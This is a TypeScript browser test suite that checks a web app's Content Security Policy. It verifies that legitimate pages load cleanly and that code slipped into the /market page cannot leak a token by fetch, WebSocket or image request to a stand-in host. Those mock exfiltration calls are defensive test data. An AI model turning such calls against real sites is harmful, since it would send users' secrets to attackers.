import assert from 'node:assert/strict'
import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { after, before, test } from 'node:test'
import type { Page } from 'playwright-core'
import { pages } from '../../tools/build/features.ts'
import { operate, setSetting } from '../support/journey/operator.ts'
import { openStage, type Stage, signInAsDemo, type Visitor } from '../support/journey/stage.ts'
import { until } from '../support/until.ts'

const PICTURE =
  '<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9"><rect width="9" height="9" fill="teal"/></svg>'

let stage: Stage
/** Another origin, where the operator has pictures. */
let elsewhere: Server
let origin = ''
/** What was asked of it. */
const asked: string[] = []

before(async () => {
  stage = await openStage()
  elsewhere = createServer((request, response) => {
    asked.push(request.url ?? '')
    response.setHeader('Content-Type', 'image/svg+xml').setHeader('Access-Control-Allow-Origin', '*').end(PICTURE)
  })
  await new Promise<void>((resolve) => elsewhere.listen(0, '127.0.0.1', resolve))
  origin = `http://localhost:${(elsewhere.address() as AddressInfo).port}`
})
after(async () => {
  elsewhere.closeAllConnections()
  elsewhere.close()
  await stage.close()
})

/** What the policy of the pages refuses to this visitor from now on, a line each. */
async function refusedTo({ context }: Visitor): Promise<string[]> {
  const refused: string[] = []
  await context.exposeFunction('recordRefusal', (line: string) => void refused.push(line))
  await context.addInitScript(() => {
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) => {
      const record = Reflect.get(globalThis, 'recordRefusal') as (line: string) => void
      record(`${location.pathname}: ${effectiveDirective} ${blockedURI}`)
    })
  })
  return refused
}

/** Waits until the element of a page is there, or one of the home page's, and all that was asked for at first has come. */
async function settled(page: Page, tag: string | null): Promise<void> {
  const element = tag ?? 'tl-ticker'
  await page.locator(element).first().waitFor({ state: 'attached' })
  await page.waitForFunction((name) => customElements.get(name) !== undefined, element)
}

test('log-in, every page, and pictures that the operator has elsewhere: the policy refuses nothing', async () => {
  await setSetting(stage, 'logo', `${origin}/logo.svg`)
  await operate(stage, 'POST', '/partners', { title: 'P', url: 'https://p.example', img: `${origin}/partner.svg` })
  const visitor = await stage.visitor()
  const refused = await refusedTo(visitor)
  await signInAsDemo(visitor, stage)
  await settled(visitor.page, null)
  await until(() => asked.includes('/logo.svg'), 'the logo of the operator')
  assert.deepEqual(refused, [], 'the home page, reached by log-in without a new document')
  for (const { path, tag, access } of pages.filter(({ access }) => access !== 'visitor')) {
    await visitor.page.goto(`${stage.backend.address}${path}`)
    await settled(visitor.page, tag)
    // The partners come after the element: who leaves before has not asked for their pictures.
    if (tag === 'tl-deposit') await until(() => asked.includes('/partner.svg'), 'the picture of a partner')
    assert.deepEqual(refused, [], `${path} (${access})`)
  }
  await setSetting(stage, 'logo')
})

test('code that was slipped into a page cannot send what it finds elsewhere, by a call, a socket or a picture', async () => {
  const { page } = await stage.visitor()
  await page.goto(`${stage.backend.address}/market`)
  const thief = await page.evaluate(async () => {
    const refused: string[] = []
    document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) => refused.push(effectiveDirective))
    await fetch('http://127.0.0.2:9/?token').catch(() => undefined)
    try {
      new WebSocket('ws://127.0.0.2:9/?token').onerror = () => undefined
    } catch {
      // Some browsers throw, others tell the socket.
    }
    new Image().src = 'http://127.0.0.2:9/?token'
    while (refused.length < 3) await new Promise((resolve) => setTimeout(resolve, 20))
    return refused.sort()
  })
  assert.deepEqual(thief, ['connect-src', 'connect-src', 'img-src'])
})
